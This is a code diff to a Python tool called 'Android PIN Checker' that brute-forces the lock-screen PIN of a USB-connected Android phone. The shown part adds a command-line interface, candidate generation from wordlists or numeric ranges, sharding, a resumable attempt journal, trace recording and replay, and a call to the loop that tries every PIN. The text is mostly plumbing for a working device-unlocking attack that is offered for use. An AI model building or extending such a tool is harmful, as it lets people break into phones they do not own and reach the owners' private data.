+                        help='benchmark the backends against a simulated device')
+    replay = commands.add_parser('replay', help='re-run a recorded trace without a device')
+    replay.add_argument('trace', help='trace written by run --record')
+    replay.add_argument('--speed', type=float, default=1.0,
+                        help='replay speed multiplier; 0 skips all delays (default: 1)')
+    replay.add_argument('--setup', action='store_true',
+                        help='also replay the setup checks before the PIN loop')
+    add_output_arguments(replay)
+    devices = commands.add_parser('devices', help='list connected devices')
+    add_connection_arguments(devices)
+    devices.add_argument('--json', action='store_true', help='print a JSON object')
+    return parser
+
+
+COMMANDS = ('run', 'benchmark', 'replay', 'devices')
+
+# Exit status of the run command; 2 stays argparse's usage error
+EXIT_FOUND, EXIT_FAILED, EXIT_NOT_FOUND = 0, 1, 3
+
+
+def run_command_line(args):
+    """The `run` command: setup checks, then the PIN check"""
+    interactive = not (args.yes or args.headless)
+    console = make_console(stderr=args.headless, plain=args.headless)
+    if not args.headless and load_rich() is None:
+        console.print("The interactive display needs rich: python3 -m pip install rich\n"
+                      "(or run with --headless)")
+        return EXIT_FAILED
+
+    metrics = Metrics(enabled=bool(args.metrics_json or args.metrics_prom),
+                      json_path=args.metrics_json, prometheus_path=args.metrics_prom,
+                      interval=args.metrics_interval)
+    checker = None
+    try:
+        checker = PINChecker(backend=args.backend, metrics=metrics,
+                             log_level=LOG_LEVELS[args.log_level], log_file=args.log_file,
+                             headless=args.headless, status_interval=args.status_interval)
+        candidates = build_candidates(**candidate_options(args))
+        if args.record:
+            checker.record_to(args.record, {'candidates': candidate_options(args)})
+        if args.journal:
+            checker.journal = AttemptJournal.open(args.journal, candidates.space,
+                                                  batch_size=args.journal_batch)
+            for path in args.journal_import:
+                checker.journal.import_from(path)
+            if args.journal_import:
+                checker.journal.compact()  # keep imported work across a crash
+
+        if interactive:
+            console.clear()
+        print_panel(console,
             "[bold blue]Android PIN Checker[/bold blue] [dim](Professional Edition)[/dim]\n"
             "[dim]===============================================[/dim]"
-        ))
-        
-        checker = PINChecker()
+        )
         
         # Show initial instructions
-        console.print(Panel.fit(
+        print_panel(console,
             "[yellow]Please ensure:[/yellow]\n\n"
             "1. Phone is connected via USB\n"
             "2. Wait for automatic setup to complete\n\n"
@@ -569,25 +2869,114 @@ def main():
             "1. Enable developer mode\n"
             "2. Enable USB debugging\n"
             "3. Handle USB authorization"
-        ))
+        )
         
-        input("\nPress Enter when ready...")
+        if interactive:
+            input("\nPress Enter when ready...")
         
         # Run setup checks with error handling
-        if not checker.setup_checks():
-            console.print(Panel.fit(
+        if not checker.setup_checks(allow_root=args.allow_root, interactive=interactive):
+            checker.panel(
                 "[red]Setup checks failed. Please fix the issues and try again.[/red]"
-            ))
-            sys.exit(1)
+            )
+            return EXIT_FAILED
         
-        checker.check_all_pins()
+        checker.check_all_pins(candidates)
+        if checker.outcome == 'found':
+            return EXIT_FOUND
+        if checker.outcome == 'exhausted':
+            return EXIT_NOT_FOUND
+        return EXIT_FAILED
 
     except KeyboardInterrupt:
         console.print("\n[yellow]Script interrupted by user. Exiting...[/yellow]")
-        sys.exit(0)
+        return 130  # the shell's status for SIGINT
     except Exception as e:
         console.print(f"[red]Unexpected error: {str(e)}[/red]")
-        sys.exit(1)
+        return EXIT_FAILED
+    finally:
+        if checker is not None:
+            checker.tracker.stop()
+            checker.session.close()
+            if checker.journal is not None:
+                checker.journal.close()
+            if checker.recorder is not None:
+                checker.recorder.close()
+            checker.metrics.stop_exporter()
+            checker.logger.close()
+
+
+def replay_command(args):
+    """Replay a trace against PINChecker and report how long it took"""
+    metrics = Metrics(enabled=True, json_path=args.metrics_json,
+                      prometheus_path=args.metrics_prom, interval=args.metrics_interval)
+    checker = PINChecker(metrics=metrics, log_level=LOG_LEVELS[args.log_level],
+                         log_file=args.log_file, headless=True,
+                         status_interval=args.status_interval or 3600)
+    checker.status_stream = sys.stderr  # stdout carries only the JSON report
+    try:
+        try:
+            meta = checker.replay_from(args.trace, args.speed)
+        except (OSError, EOFError, ValueError) as e:
+            # EOFError: the recording run was killed before closing the trace
+            print(f"Cannot replay {args.trace}: {e}", file=sys.stderr)
+            return 1
+        options = meta.get('candidates', {})
+        if options.get('shard'):
+            options['shard'] = tuple(options['shard'])
+        candidates = build_candidates(**options)
+
+        started = time.perf_counter()
+        setup = None
+        if args.setup:
+            setup = checker.setup_checks(allow_root=True, interactive=False)
+        # A run whose setup failed never reached the PIN loop
+        found = checker.check_all_pins(candidates) if setup is not False else None
+        elapsed = time.perf_counter() - started
+    finally:
+        checker.metrics.stop_exporter()
+        checker.logger.close()
+
+    print(json.dumps({
+        'trace': args.trace,
+        'speed': args.speed,
+        'elapsed': round(elapsed, 6),
+        'setup': setup,
+        'attempts': checker.attempts,
+        'found': found,
+        'commands_replayed': checker.replayer.replayed,
+        'commands_missing': checker.replayer.misses,
+        'operations': metrics.snapshot()['operations'],
+    }, indent=2))
+    return 0
+
+
+def main(argv=None):
+    argv = sys.argv[1:] if argv is None else list(argv)
+    # Plain `pin_checker.py [options]` keeps meaning `run`
+    if not argv or (argv[0] not in COMMANDS and argv[0] not in ('-h', '--help')):
+        argv = ['run'] + argv
+    if argv[0] == 'benchmark':
+        import pin_checker_sim  # the simulator is only needed here
+        return pin_checker_sim.main(argv[1:])
+    parser = build_parser()
+    args = parser.parse_args(argv)
+    if args.command == 'run' and args.journal_import and not args.journal:
+        parser.error("--journal-import needs --journal to record the merged work in")
+    if (args.command == 'run' and args.wordlist
+            and (args.length, args.start, args.end) != (None, None, None)):
+        parser.error("--wordlist cannot be combined with --length, --start or --end")
+    if args.command == 'run' and not args.wordlist:
+        try:
+            build_candidates(**candidate_options(args))
+        except ValueError as e:
+            parser.error(str(e))
+    if args.command == 'replay':
+        return replay_command(args)
+    if args.command == 'devices':
+        return devices_command(args)
+    return run_command_line(args)
+
 
 if __name__ == "__main__":
-    main() 
\ No newline at end of file
+    sys.exit(main())